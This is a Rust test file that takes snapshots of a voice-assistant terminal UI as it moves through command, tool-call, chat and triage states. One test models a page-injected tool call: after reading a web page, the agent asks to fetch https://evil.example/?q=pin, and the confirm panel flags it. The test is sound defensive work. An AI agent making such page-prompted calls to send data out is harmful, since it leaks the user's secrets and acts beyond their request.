//! The whole screen, at 100x30, in each state that matters: snapshots (in `snapshots/`)
//! plus checks of the colours a snapshot cannot show. Every state is built by feeding
//! actions (wire lines, keys, replies) through `update`, as the event loop does.

mod support;

use ratatui::crossterm::event::KeyCode;
use ratatui::style::{Color, Modifier};
use stt_proto::Request;
use stt_tui::action::Action;
use stt_tui::state::Options;
use support::*;

fn armed() -> Vec<Action> {
    let mut actions = connected();
    actions.extend([
        key('a'),
        event(r#"{"type":"mode","mode":"command_armed"}"#),
        event(r#"{"type":"command_text","text":"","edited":false}"#),
        event(r#"{"type":"speech_start","seg_id":3,"start":5.0}"#),
        event(r#"{"type":"speech_stop","seg_id":3,"end":6.6}"#),
        event(
            r#"{"type":"transcript","seg_id":3,"text":"what time is it","language":"en","start":5.0,"end":6.6,"duration":1.6,"speaker_id":"spk_0001","speaker_status":"matched","speaker":"Efren","speaker_score":0.9}"#,
        ),
        event(r#"{"type":"command_text","text":"what time is it","edited":false}"#),
    ]);
    actions
}

fn executing() -> Vec<Action> {
    let mut actions = armed();
    actions.extend([
        press(KeyCode::Enter),
        reply(
            Request::CommandExecute { wait_ms: None },
            r#"{"type":"ack","command":"command_execute","ok":true}"#,
        ),
        event(r#"{"type":"mode","mode":"executing"}"#),
    ]);
    actions
}

#[test]
fn idle() {
    let (state, _) = after(connected());
    let screen = screen(&state);
    assert!(screen.contains("● connected to stt-assistant 0.1.0 as a viewer"), "{screen}");
    assert!(screen.contains("0:01 [en] Efren (1.5s): turn on the lights"), "{screen}");
    assert!(screen.contains("0:03 [de] Unknown (1.2s): wie spät ist es"), "{screen}");
    insta::assert_snapshot!(screen);
}

#[test]
fn timestamps_can_be_turned_off() {
    let options = Options { show_timestamps: false, ..Options::default() };
    let (state, _) = after_with(options, connected());
    let screen = screen(&state);
    assert!(screen.contains("│[en] Efren (1.5s): turn on the lights"), "{screen}");
}

#[test]
fn armed_with_a_buffer() {
    let (state, _) = after(armed());
    let screen = screen(&state);
    assert!(screen.contains("COMMAND ARMED"), "{screen}");
    assert!(screen.contains("command buffer"), "{screen}");
    insta::assert_snapshot!(screen);
}

#[test]
fn editing_shows_the_cursor_in_the_buffer() {
    let mut actions = armed();
    actions.push(key('e'));
    actions.extend(typing(" in Tokyo"));
    actions.extend([press(KeyCode::Left), press(KeyCode::Left)]);
    let (state, effects) = after(actions);
    let screen = screen(&state);
    // The cursor sits on the "y" of "Tokyo": two to the left of the end.
    let text_at = find(&draw(&state), "what time is it in Tokyo").unwrap();
    let at = "what time is it in Tok".len() as u16;
    assert!(
        screen.contains(&format!("cursor: column {}, row {}", text_at.0 + at, text_at.1)),
        "{screen}"
    );
    assert!(!sent(&effects).iter().any(|r| matches!(r, Request::CommandEdit { .. })));
    insta::assert_snapshot!(screen);
}

#[test]
fn executing_with_a_tool_call() {
    let mut actions = executing();
    actions.extend([
        event(
            r#"{"type":"tool_call","call_id":"call_1","tool":"get_datetime","args":{},"side_effect":"read_only","requires_confirmation":false,"awaiting_confirmation":false}"#,
        ),
        event(
            r#"{"type":"tool_result","call_id":"call_1","tool":"get_datetime","ok":true,"result":"2026-11-30T12:00:00+01:00 (Monday)","latency_ms":3}"#,
        ),
    ]);
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("EXECUTING"), "{screen}");
    assert!(screen.contains("command: what time is it"), "{screen}");
    assert!(screen.contains("→ get_datetime {} [read_only]"), "{screen}");
    assert!(
        screen.contains("← get_datetime: 2026-11-30T12:00:00+01:00 (Monday) (3 ms)"),
        "{screen}"
    );
    insta::assert_snapshot!(screen);
}

#[test]
fn a_tool_call_waiting_for_confirmation() {
    let mut actions = executing();
    actions.push(event(
        r#"{"type":"tool_call","call_id":"call_3","tool":"open_url","args":{"url":"https://example.org"},"side_effect":"external","requires_confirmation":true,"awaiting_confirmation":true}"#,
    ));
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("confirm a tool call"), "{screen}");
    assert!(
        screen.contains(
            r#"Allow open_url {"url":"https://example.org"} [external]?  y allow  n deny"#
        ),
        "{screen}"
    );
    insta::assert_snapshot!(screen);
}

/// A call that waits because a page was read before it: the confirm panel says which, so
/// the person can tell a call they asked for from one the page asked for.
#[test]
fn a_call_after_a_page_was_read_says_what_was_read() {
    let mut actions = executing();
    actions.push(event(
        r#"{"type":"tool_call","call_id":"call_2","tool":"fetch_web","args":{"url":"https://evil.example/?q=pin"},"side_effect":"external","requires_confirmation":false,"awaiting_confirmation":true,"outside":"fetch_web({\"url\":\"https://example.org/hours\"})"}"#,
    ));
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(
        screen.contains(r#"Allow fetch_web {"url":"https://evil.example/?q=pin"}"#),
        "{screen}"
    );
    let flat: String = screen.replace('│', " ").split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(flat.contains("asked after reading fetch_web"), "{screen}");
    assert!(flat.contains("allow only what you asked for"), "{screen}");
    insta::assert_snapshot!(screen);
}

#[test]
fn chat_with_a_reply_streaming_in() {
    let mut actions = connected();
    actions.extend([
        key('t'),
        reply(Request::ChatToggle, r#"{"type":"ack","command":"chat_toggle","ok":true}"#),
        event(r#"{"type":"mode","mode":"chat"}"#),
        event(
            r#"{"type":"chat_message","id":4,"role":"user","speaker":"Efren","text":"tell me a joke","partial":false}"#,
        ),
        event(
            r#"{"type":"chat_message","id":5,"role":"assistant","speaker":null,"text":"Why did","partial":true}"#,
        ),
        event(
            r#"{"type":"chat_message","id":5,"role":"assistant","speaker":null,"text":" the chicken","partial":true}"#,
        ),
        event(
            r#"{"type":"heartbeat","seq":2,"mode":"chat","stt_healthy":true,"daemon_backlog":0,"inference_queue":0,"inference_busy":true}"#,
        ),
    ]);
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("assistant: Why did the chicken …"), "{screen}");
    assert_eq!(screen.matches("assistant:").count(), 1, "one line that grows: {screen}");
    insta::assert_snapshot!(screen);
}

#[test]
fn an_error_line_carries_the_assistants_message() {
    let mut actions = armed();
    actions.extend([
        press(KeyCode::Enter),
        reply(
            Request::CommandExecute { wait_ms: None },
            r#"{"type":"error","code":"not_ready","message":"not ready: speech is still open (segment 8); execute again when it closes"}"#,
        ),
    ]);
    let (state, _) = after(actions);
    let screen = screen(&state);
    let line = "error (not_ready): not ready: speech is still open (segment 8); execute again when it closes";
    assert!(screen.contains(line), "{screen}");
    insta::assert_snapshot!(screen);

    let buffer = draw(&state);
    let (x, y) = find(&buffer, "error (not_ready)").unwrap();
    let (mx, my) = find(&buffer, "not ready: speech").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Red);
    assert_eq!(buffer[(mx, my)].fg, Color::Red);
}

#[test]
fn disconnected_says_it_retries() {
    let mut actions = connected();
    actions.push(Action::LinkDown(format!(
        "stt-assistant is not running (nothing listens on '{SOCKET}'): start it with `stt-daemon up`"
    )));
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("✗ disconnected, retrying"), "{screen}");
    assert!(screen.contains("stt-assistant is not running (nothing listens on"), "{screen}");
    assert!(screen.contains("with `stt-daemon up`"), "{screen}");
    insta::assert_snapshot!(screen);
}

#[test]
fn spoken_replies_show_in_the_header_until_the_voice_is_toggled_off() {
    let on = STATUS_IDLE.replace(r#""version""#, r#""voice":true,"version""#);
    let mut actions = connected();
    actions.push(reply(Request::Status, &on));
    let (mut state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("STT ok   voice on"), "{screen}");
    insta::assert_snapshot!(screen);
    // `v` toggles it off; the reply is the status that says so.
    feed(&mut state, [reply(Request::VoiceToggle, STATUS_IDLE)]);
    let screen = support::screen(&state);
    assert!(!screen.contains("voice on"), "{screen}");
}

#[test]
fn the_header_says_when_audio_leaves_the_machine() {
    let mut actions = connected();
    actions.push(event(
        r#"{"type":"heartbeat","seq":9,"mode":"idle","stt_healthy":true,"daemon_backlog":0,"inference_queue":0,"inference_busy":false,"stt_remote":"10.0.0.5:8080"}"#,
    ));
    let (mut state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("STT ok   audio → 10.0.0.5:8080"), "{screen}");
    // Back on this machine (or an older assistant, which says nothing): gone.
    feed(
        &mut state,
        [event(
            r#"{"type":"heartbeat","seq":10,"mode":"idle","stt_healthy":true,"daemon_backlog":0,"inference_queue":0,"inference_busy":false}"#,
        )],
    );
    assert!(!support::screen(&state).contains("audio →"));
}

#[test]
fn the_header_names_the_wake_phrase_and_how_sure_the_last_one_was() {
    let mut actions = connected();
    actions.push(event(
        r#"{"type":"heartbeat","seq":9,"mode":"idle","stt_healthy":true,"daemon_backlog":0,"inference_queue":0,"inference_busy":false,"stt_remote":null,"wake":"hey_jarvis","speaking":false}"#,
    ));
    let (mut state, _) = after(actions);
    assert!(screen(&state).contains("STT ok   wake: hey_jarvis"), "{}", screen(&state));
    feed(&mut state, [event(r#"{"type":"wake","phrase":"hey_jarvis","score":0.934,"at":12.4}"#)]);
    assert!(screen(&state).contains("wake: hey_jarvis (last heard 0.93)"), "{}", screen(&state));
    // Wake turned off (or an older assistant): gone.
    feed(
        &mut state,
        [event(
            r#"{"type":"heartbeat","seq":10,"mode":"idle","stt_healthy":true,"daemon_backlog":0,"inference_queue":0,"inference_busy":false}"#,
        )],
    );
    assert!(!screen(&state).contains("wake:"), "{}", screen(&state));
}

#[test]
fn counters_show_the_backlog_and_the_inference_queue() {
    let mut actions = connected();
    actions.push(event(
        r#"{"type":"heartbeat","seq":9,"mode":"chat","stt_healthy":true,"daemon_backlog":3,"inference_queue":2,"inference_busy":true}"#,
    ));
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("transcripts [seg 3]"), "{screen}");
    assert!(screen.contains("conversation / command output [inf 2 · busy]"), "{screen}");
    insta::assert_snapshot!(screen);

    // The next heartbeat replaces the counters.
    let mut state = state;
    feed(
        &mut state,
        [event(
            r#"{"type":"heartbeat","seq":10,"mode":"chat","stt_healthy":true,"daemon_backlog":0,"inference_queue":0,"inference_busy":false}"#,
        )],
    );
    let screen = support::screen(&state);
    assert!(screen.contains("transcripts [seg 0]"), "{screen}");
    assert!(screen.contains("conversation / command output [inf 0]"), "{screen}");
}

#[test]
fn named_speakers_are_bold_green_and_unknown_ones_bold_red() {
    let (state, _) = after(connected());
    let buffer = draw(&state);
    let (x, y) = find(&buffer, "Efren (1.5s)").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Green);
    assert!(buffer[(x, y)].modifier.contains(Modifier::BOLD));
    let (x, y) = find(&buffer, "Unknown (1.2s)").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Red);
    assert!(buffer[(x, y)].modifier.contains(Modifier::BOLD));
}

#[test]
fn the_screen_fits_a_small_terminal_and_a_resize() {
    let (mut state, _) = after(armed());
    // Tiny terminals must not panic, whatever gets cut.
    for (width, height) in [(1, 1), (20, 5), (40, 12), (200, 60)] {
        feed(&mut state, [Action::Resize { width, height }]);
        let mut terminal =
            ratatui::Terminal::new(ratatui::backend::TestBackend::new(width, height)).unwrap();
        terminal.draw(|frame| stt_tui::view::view(&state, frame)).unwrap();
    }
}

// ---------------------------------------------------------------------------------------
// Chat: the chat line, the session row, stopped replies, errors.

/// Connected in chat mode, after one question and its answer.
fn chatted() -> Vec<Action> {
    let mut actions = connected();
    actions.extend([
        event(r#"{"type":"mode","mode":"chat"}"#),
        event(
            r#"{"type":"chat_message","id":4,"role":"user","speaker":"Efren","text":"tell me a joke","partial":false}"#,
        ),
        chat(5, "assistant", "Why did the chicken cross the road? To get to the other side.", false, false),
    ]);
    actions
}

#[test]
fn the_chat_line_open_with_text_typed() {
    let mut actions = chatted();
    actions.push(key('i'));
    actions.extend(typing("what is the capital of Peru?"));
    actions.extend([press(KeyCode::Left), press(KeyCode::Left)]);
    let (state, effects) = after(actions);
    assert_eq!(sent(&effects), [Request::Status], "only the link's status: typing sends nothing");
    let screen = screen(&state);
    assert!(screen.contains("chat: Enter sends, /help lists the slash commands"), "{screen}");
    assert!(screen.contains("Enter send  Esc close"), "{screen}");
    // The cursor sits on the "u" of "Peru?": two to the left of the end.
    let text_at = find(&draw(&state), "what is the capital of Peru?").unwrap();
    let at = "what is the capital of Per".len() as u16;
    assert!(
        screen.contains(&format!("cursor: column {}, row {}", text_at.0 + at, text_at.1)),
        "{screen}"
    );
    insta::assert_snapshot!(screen);
}

#[test]
fn the_session_row_names_the_model_and_counts_the_tokens() {
    let mut actions = chatted();
    actions.push(event(SESSION));
    let (state, _) = after(actions);
    let screen = screen(&state);
    let row = "│llamacpp · qwen2.5 · 127.0.0.1:9931   last 412↑ 38↓ (380 cached) · total 790↑ 71↓";
    assert!(screen.contains(row), "{screen}");
    assert!(screen.contains("Efren: tell me a joke"), "the turns follow: {screen}");
    insta::assert_snapshot!(screen);

    let buffer = draw(&state);
    let (x, y) = find(&buffer, "llamacpp ·").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Cyan);
    let (x, y) = find(&buffer, "last 412").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::DarkGray);

    // No provider, no model: it says so, and counts nothing before the first turn.
    let mut state = state;
    feed(
        &mut state,
        [event(
            r#"{"type":"chat_session","provider":null,"model":"","endpoint":"","loading":false,"turns":0,"last":null,"total":{"prompt":0,"completion":0,"cached":0}}"#,
        )],
    );
    let screen = support::screen(&state);
    assert!(screen.contains("│no model provider                 "), "{screen}");
    assert!(!screen.contains("total"), "{screen}");
}

#[test]
fn the_session_row_says_the_model_is_loading() {
    let mut actions = connected();
    actions.extend([
        event(r#"{"type":"mode","mode":"chat"}"#),
        event(
            r#"{"type":"chat_session","provider":"llamacpp","model":"","endpoint":"127.0.0.1:9931","loading":true,"turns":0,"last":null,"total":{"prompt":0,"completion":0,"cached":0}}"#,
        ),
    ]);
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(
        screen.contains("│llamacpp · 127.0.0.1:9931   loading model"),
        "no empty model: {screen}"
    );
    insta::assert_snapshot!(screen);
    let buffer = draw(&state);
    let (x, y) = find(&buffer, "loading model").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Yellow);
}

#[test]
fn a_stopped_reply_is_marked() {
    let mut actions = chatted();
    actions.extend([
        chat(6, "user", "tell me a long story", false, false),
        piece(7, "Once upon"),
        piece(7, " a time"),
        press(KeyCode::Enter),
        reply(Request::ChatStop, r#"{"type":"ack","command":"chat_stop","ok":true}"#),
        chat(7, "assistant", "Once upon a time", false, true),
    ]);
    let (state, effects) = after(actions);
    assert_eq!(sent(&effects).last(), Some(&Request::ChatStop), "Enter stopped it");
    let screen = screen(&state);
    assert!(screen.contains("assistant: Once upon a time ⚠ stopped"), "{screen}");
    assert!(!screen.contains('…'), "no longer streaming: {screen}");
    insta::assert_snapshot!(screen);
    let buffer = draw(&state);
    let (x, y) = find(&buffer, "⚠ stopped").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Yellow);
}

#[test]
fn an_error_chat_message_is_a_red_line() {
    let mut actions = chatted();
    actions.extend([
        chat(6, "user", "and another", false, false),
        chat(
            7,
            "error",
            "openai: https://api.openai.com/v1/chat/completions answered 401: Incorrect API key provided — openai refused the key: set OPENAI_API_KEY to a valid key (see docs/PROVIDERS.md)",
            false,
            false,
        ),
    ]);
    let (state, _) = after(actions);
    let screen = screen(&state);
    assert!(
        screen.contains("error: openai: https://api.openai.com/v1/chat/completions answered 401"),
        "{screen}"
    );
    assert!(screen.contains("set OPENAI_API_KEY to a valid key"), "wrapped, not cut: {screen}");
    insta::assert_snapshot!(screen);
    let buffer = draw(&state);
    let (x, y) = find(&buffer, "error: openai").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Red);
    let (x, y) = find(&buffer, "set OPENAI_API_KEY").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Red, "the wrapped rest is red too");
}

#[test]
fn words_being_spoken_show_on_an_open_line_the_unsettled_ones_dimmed_until_the_final() {
    let mut actions = armed();
    actions.extend([
        event(r#"{"type":"speech_start","seg_id":4,"start":8.0}"#),
        event(r#"{"type":"transcript_partial","seg_id":4,"text":"and in Lisbon tomor","committed_len":13}"#),
        event(r#"{"type":"command_text","text":"what time is it and in Lisbon tomor","edited":false}"#),
    ]);
    let (mut state, _) = after(actions);
    let screen = screen(&state);
    assert!(screen.contains("… and in Lisbon tomor"), "{screen}");
    assert!(screen.contains("what time is it and in Lisbon tomor"), "the command grows: {screen}");
    insta::assert_snapshot!(screen);
    let buffer = draw(&state);
    let (x, y) = find(&buffer, "and in Lisbon tomor").unwrap();
    assert_eq!(buffer[(x, y)].fg, Color::Reset, "committed words are plain");
    let (x, y) = find(&buffer, " tomor").unwrap();
    assert_eq!(buffer[(x + 1, y)].fg, Color::DarkGray, "the tentative tail is dimmed");
    assert!(buffer[(x + 1, y)].modifier.contains(Modifier::ITALIC));

    // The final replaces the open line.
    feed(
        &mut state,
        [
            event(r#"{"type":"speech_stop","seg_id":4,"end":10.2}"#),
            event(
                r#"{"type":"transcript","seg_id":4,"text":"and in Lisbon tomorrow","language":"en","start":8.0,"end":10.2,"duration":2.2,"speaker_id":null,"speaker_status":"none","speaker":null,"speaker_score":null}"#,
            ),
        ],
    );
    let screen = support::screen(&state);
    assert!(!screen.contains("… and"), "{screen}");
    assert!(screen.contains("(2.2s): and in Lisbon tomorrow"), "{screen}");

    // The voice's own words heard back: the assistant relays their final empty; no line.
    let lines = state.transcripts.len();
    feed(
        &mut state,
        [
            event(r#"{"type":"speech_start","seg_id":5,"start":11.0}"#),
            event(r#"{"type":"speech_stop","seg_id":5,"end":13.0}"#),
            event(
                r#"{"type":"transcript","seg_id":5,"text":"","language":"en","start":11.0,"end":13.0,"duration":2.0,"speaker_id":null,"speaker_status":"none","speaker":null,"speaker_score":null}"#,
            ),
        ],
    );
    assert_eq!(state.transcripts.len(), lines, "an empty final adds no line");
    assert_eq!(state.speaking, None, "and the segment is over");
}

const SIGNALS: &str = r#"{"type":"triage","id":4,"stage":"signals","seg_ids":[5],"signals":[{"category":"request","confidence":0.12},{"category":"question","confidence":0.05},{"category":"task","confidence":0.81},{"category":"decision","confidence":0.3},{"category":"problem","confidence":0.02},{"category":"urgency","confidence":0.0}],"content":null,"error":null}"#;

const CONTENT: &str = r#"{"type":"triage","id":4,"stage":"content","seg_ids":[5],"signals":[{"category":"request","confidence":0.12},{"category":"question","confidence":0.05},{"category":"task","confidence":0.81},{"category":"decision","confidence":0.3},{"category":"problem","confidence":0.02},{"category":"urgency","confidence":0.0}],"content":{"tasks":[{"what":"renew the car insurance","who":"Efren","when":"the end of the month"}],"dates":["the end of the month"],"people":["Efren"],"decision":null},"error":null}"#;

fn triage_on() -> Options {
    Options { triage: true, ..Options::default() }
}

/// With `[triage]` on, the panel stands beside the panes: a bar a category, the strongest in
/// bold, then what the model extracted; `g` hides and shows it; `clear` empties it; off, it
/// is never drawn and `g` says how to turn it on.
#[test]
fn the_triage_panel_shows_signals_as_bars_then_the_content() {
    let mut actions = connected();
    actions.push(event(SIGNALS));
    let (state, _) = after_with(triage_on(), actions.clone());
    let shown = screen(&state);
    assert!(shown.contains("triage"), "{shown}");
    assert!(shown.contains("task     ████"), "{shown}");
    assert!(shown.contains(" 81%"), "{shown}");
    let at = find(&draw(&state), "task     ").unwrap();
    assert!(draw(&state)[at].modifier.contains(Modifier::BOLD), "the top signal is bold");
    let at = find(&draw(&state), "request  ").unwrap();
    assert!(!draw(&state)[at].modifier.contains(Modifier::BOLD));

    actions.push(event(CONTENT));
    let (state, _) = after_with(triage_on(), actions.clone());
    let shown = screen(&state);
    assert!(shown.contains("task: renew the car insurance"), "{shown}");
    assert!(shown.contains("(Efren, the end of the month)"), "{shown}");
    assert!(shown.contains("people: Efren"), "{shown}");
    insta::assert_snapshot!(shown);

    // An older window's content does not replace a newer window's signals.
    let mut later = actions.clone();
    later.push(event(&SIGNALS.replace(r#""id":4"#, r#""id":5"#).replace("0.81", "0.4")));
    later.push(event(CONTENT));
    let (state, _) = after_with(triage_on(), later);
    assert!(!screen(&state).contains("renew the car"), "{}", screen(&state));

    // An extraction that failed says why, in red.
    let mut failed = actions.clone();
    failed.push(event(&CONTENT.replace(
        r#""content":{"tasks":[{"what":"renew the car insurance","who":"Efren","when":"the end of the month"}],"dates":["the end of the month"],"people":["Efren"],"decision":null},"error":null"#,
        r#""content":null,"error":"the model's extraction did not fit its shape twice""#,
    )));
    let (state, _) = after_with(triage_on(), failed);
    let shown = screen(&state);
    assert!(shown.contains("extraction failed: the model's"), "{shown}");
    let at = find(&draw(&state), "extraction failed").unwrap();
    assert_eq!(draw(&state)[at].fg, Color::Red);

    // Leaving chat mode keeps it.
    let mut left_chat = actions.clone();
    left_chat.push(event(r#"{"type":"mode","mode":"chat"}"#));
    left_chat.push(event(r#"{"type":"mode","mode":"idle"}"#));
    let (state, _) = after_with(triage_on(), left_chat);
    assert!(screen(&state).contains("people: Efren"), "{}", screen(&state));

    let mut hidden = actions.clone();
    hidden.push(key('g'));
    let (state, _) = after_with(triage_on(), hidden.clone());
    assert!(!screen(&state).contains("people: Efren"));
    hidden.push(key('g'));
    let (state, _) = after_with(triage_on(), hidden);
    assert!(screen(&state).contains("people: Efren"));

    let mut cleared = actions.clone();
    cleared.push(event(r#"{"type":"cleared"}"#));
    let (state, _) = after_with(triage_on(), cleared);
    let shown = screen(&state);
    assert!(!shown.contains("people: Efren") && shown.contains("sorted here"), "{shown}");

    // Off: no panel, and the key says how to have one.
    actions.push(key('g'));
    let (state, _) = after(actions);
    let shown = screen(&state);
    assert!(!shown.contains("people: Efren"), "{shown}");
    assert!(shown.contains("triage is off: set [triage] enabled = true"), "{shown}");
}
